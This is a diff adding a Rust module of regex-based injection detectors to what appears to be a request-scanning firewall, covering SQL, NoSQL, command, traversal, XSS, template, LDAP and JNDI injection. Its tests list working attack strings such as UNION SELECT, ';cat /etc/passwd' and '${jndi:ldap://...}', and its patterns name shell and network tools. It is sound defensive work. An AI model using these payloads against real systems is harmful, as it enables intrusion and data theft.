@@ -1,0 +1,253 @@
+//! Injection classifiers: each scores the evidence in every input and fires at a threshold.
+//! Strong signs (a `union select`, `sleep(5)`, `${jndi:`, `../../etc/passwd`) fire alone; weak
+//! ones (a quote, `--`, `or`) need company. Patterns are regexes (linear time: the `regex`
+//! crate never backtracks, so a crafted input cannot stall a worker).
+
+use std::sync::LazyLock;
+
+use regex::{Regex, RegexSet};
+
+use super::{Detector, Inputs};
+
+struct Class {
+    det: Detector,
+    /// (pattern, points)
+    set: RegexSet,
+    points: Vec<u32>,
+    threshold: u32,
+}
+
+fn class(det: Detector, threshold: u32, pats: &[(&str, u32)]) -> Class {
+    Class {
+        det,
+        set: RegexSet::new(pats.iter().map(|(p, _)| *p)).unwrap_or_else(|_| RegexSet::empty()),
+        points: pats.iter().map(|(_, n)| *n).collect(),
+        threshold,
+    }
+}
+
+static CLASSES: LazyLock<Vec<Class>> = LazyLock::new(|| {
+    vec![
+        class(
+            Detector::Sqli,
+            3,
+            &[
+                (r"\bunion\b[\s/*()]+(all[\s/*()]+)?select\b", 3),
+                (r"\b(sleep|pg_sleep|benchmark)\s*\(\s*\d", 3),
+                (r"\bwaitfor\s+delay\b", 3),
+                (
+                    r"\binformation_schema\b|\bsysobjects\b|\bsqlite_master\b|\bpg_catalog\b",
+                    3,
+                ),
+                (
+                    r"\b(extractvalue|updatexml|load_file|xp_cmdshell|utl_inaddr|dbms_pipe)\s*\(",
+                    3,
+                ),
+                (r"@@version|\bversion\(\)|\bdatabase\(\)|\buser\(\)", 2),
+                (
+                    r#"['"`)]\s*(or|and|xor|\|\||&&)\s+['"(]?\w+['"]?\s*(=|<|>|like\b|is\b)"#,
+                    3,
+                ),
+                (r#"['"`)]\s*(or|and)\s+\d+\s*=\s*\d+"#, 3),
+                (r"\b(or|and)\s+\d+\s*=\s*\d+\s*(--|#|/\*|$)", 2),
+                (
+                    r#"['"`)]\s*;\s*(select|insert|update|delete|drop|exec|declare|shutdown)\b"#,
+                    3,
+                ),
+                (r#"['"`)]\s*(--|#|/\*)"#, 1),
+                (r"\border\s+by\s+\d+\s*(--|#|/\*)", 2),
+                (r"\bselect\b.{1,80}\bfrom\b", 1),
+                (r"\b(cast|convert|concat|char|chr|substring|ascii)\s*\(", 1),
+                (r"\bnull\s*,\s*null\b", 2),
+                (r#"['"]\s*(and|or)\s*['"]?\d"#, 1),
+                (r"0x[0-9a-f]{8,}", 1),
+            ],
+        ),
+        class(
+            Detector::Nosqli,
+            2,
+            &[
+                (
+                    r#"\[\s*\$(ne|gt|gte|lt|lte|nin|in|regex|where|exists|eq|not|or|and|expr)\s*\]"#,
+                    2,
+                ),
+                (
+                    r#""\$(ne|gt|gte|lt|lte|nin|in|regex|where|exists|not|or|and|expr)"\s*:"#,
+                    2,
+                ),
+                (r"\$where\b|\bsleep\(\d+\)\s*\|\||this\.\w+\s*==", 2),
+            ],
+        ),
+        class(
+            Detector::Cmdi,
+            2,
+            &[
+                (
+                    r"(;|\|\|?|&&|\n|`|\$\()\s*(cat|id|ls|uname|whoami|wget|curl|nc|ncat|bash|sh|ping|nslookup|sleep|echo|powershell|cmd)\b",
+                    2,
+                ),
+                (r"/bin/(ba)?sh\b|cmd\.exe|/etc/passwd|/etc/shadow", 1),
+                (r"\$\{ifs\}|\$ifs\$", 2),
+            ],
+        ),
+        class(
+            Detector::Traversal,
+            2,
+            &[
+                (r"(\.\.[/\\]){2,}", 2),
+                (r"\.\.[/\\]", 1),
+                (r"/etc/(passwd|shadow|hosts|issue)\b|boot\.ini|win\.ini|/proc/self/", 2),
+                (r"^(file:|/|[a-z]:\\).*(passwd|win\.ini)", 1),
+            ],
+        ),
+        class(
+            Detector::Xss,
+            2,
+            &[
+                (
+                    r"<\s*(script|iframe|svg|object|embed|img|body|details|video|audio|math)\b",
+                    2,
+                ),
+                (r"\bjavascript\s*:", 2),
+                (
+                    r"\bon(error|load|mouseover|focus|click|toggle|begin|animationstart)\s*=",
+                    2,
+                ),
+                (r"\b(alert|prompt|confirm)\s*[(`]", 1),
+                (r"document\.(cookie|location|domain)", 1),
+            ],
+        ),
+        class(
+            Detector::Ssti,
+            2,
+            &[
+                (r"\{\{\s*[\d\w.'\x22]+\s*[*+]\s*[\d\w.'\x22]+\s*\}\}", 2),
+                (r"\$\{\s*\d+\s*[*+]\s*\d+\s*\}", 2),
+                (r"<%=?.{0,40}%>", 2),
+                (
+                    r"\{\{.{0,60}(__class__|__mro__|__subclasses__|__globals__|config\.items|self\._)",
+                    2,
+                ),
+                (r"#\{\s*\d+\s*\*\s*\d+\s*\}", 2),
+            ],
+        ),
+        class(
+            Detector::Ldap,
+            2,
+            &[
+                (r"\*\)\s*\(\s*[|&!]?\s*\(?\w+\s*=", 2),
+                (r"\)\s*\(\s*\|\s*\(", 2),
+                (r"\*\)\(\w+=\*", 2),
+            ],
+        ),
+        class(
+            Detector::Jndi,
+            2,
+            &[
+                (r"\$\{\s*jndi\s*:", 2),
+                (r"\$\{[^}]{0,40}\$\{\s*(lower|upper|::-|env|date|sys|java|base64)", 2),
+                (
+                    r"\$\{.{0,60}j.{0,30}n.{0,30}d.{0,30}i.{0,30}:.{0,30}(ldap|rmi|dns|iiop|http)",
+                    2,
+                ),
+            ],
+        ),
+    ]
+});
+
+/// Cap on the text scanned per input: payloads sit at the front; bodies can be 64 KiB.
+const SCAN_CAP: usize = 8192;
+
+static WORD: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^[\p{L} .,'-]{0,64}$").unwrap_or_else(|_| Regex::new("^$").expect("trivial regex")));
+
+/// Every injection classifier that fires, with where and a short excerpt.
+pub fn scan(inputs: &Inputs) -> Vec<(Detector, String)> {
+    let mut out: Vec<(Detector, String)> = Vec::new();
+    for c in CLASSES.iter() {
+        for (at, text) in &inputs.parts {
+            if text.len() < 3 || WORD.is_match(text) {
+                continue; // a name like "o'brien" or plain words carry nothing
+            }
+            let mut end = text.len().min(SCAN_CAP);
+            while !text.is_char_boundary(end) {
+                end -= 1;
+            }
+            let t = &text[..end];
+            let score: u32 = c.set.matches(t).iter().map(|i| c.points[i]).sum();
+            if score >= c.threshold {
+                let mut ex: String = t.chars().take(96).collect();
+                ex.retain(|ch| !ch.is_control());
+                out.push((c.det, format!("{at}: {ex}")));
+                break;
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::normalize;
+
+    fn fires(s: &str) -> Vec<&'static str> {
+        let inputs = Inputs {
+            parts: vec![("query:q".into(), normalize(s))],
+        };
+        scan(&inputs).into_iter().map(|(d, _)| d.as_str()).collect()
+    }
+
+    #[test]
+    fn true_positives() {
+        for (p, want) in [
+            ("1' OR '1'='1", "sqli"),
+            ("1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "sqli"),
+            ("1 AND SLEEP(5)", "sqli"),
+            ("x') AND 1=1 --", "sqli"),
+            ("%2527%20or%201%3D1--", "sqli"),
+            ("1;WAITFOR DELAY '0:0:5'--", "sqli"),
+            ("[$ne]=1", "nosqli"),
+            ("{\"username\":{\"$ne\":null}}", "nosqli"),
+            (";cat /etc/passwd", "cmdi"),
+            ("127.0.0.1 && whoami", "cmdi"),
+            ("$(id)", "cmdi"),
+            ("../../../../etc/passwd", "traversal"),
+            ("..%252f..%252f..%252fetc%252fpasswd", "traversal"),
+            ("<script>alert(1)</script>", "xss"),
+            ("\"><img src=x onerror=alert(1)>", "xss"),
+            ("{{7*7}}", "ssti"),
+            ("${7*7}", "ssti"),
+            ("*)(uid=*))(|(uid=*", "ldap"),
+            ("${jndi:ldap://10.0.0.9:1389/a}", "jndi"),
+            ("${${lower:j}ndi:${lower:l}dap://x/a}", "jndi"),
+        ] {
+            assert!(fires(p).contains(&want), "{p} -> {:?}, wanted {want}", fires(p));
+        }
+    }
+
+    #[test]
+    fn near_misses_stay_quiet() {
+        for p in [
+            "O'Brien",
+            "Conan O'Brien's and Mary's",
+            "rock 'n' roll",
+            "select a size",
+            "price > 10 and < 20",
+            "SELECT",
+            "1-2-3",
+            "a/b/c/../d",
+            "john.doe@example.com",
+            "{\"name\":\"x\",\"qty\":3}",
+            "why union members select leaders",
+            "tom & jerry",
+            "cats; dogs",
+            "100% cotton",
+            "2024-01-01T00:00:00Z",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        ] {
+            assert!(fires(p).is_empty(), "{p} -> {:?}", fires(p));
+        }
+    }
+}
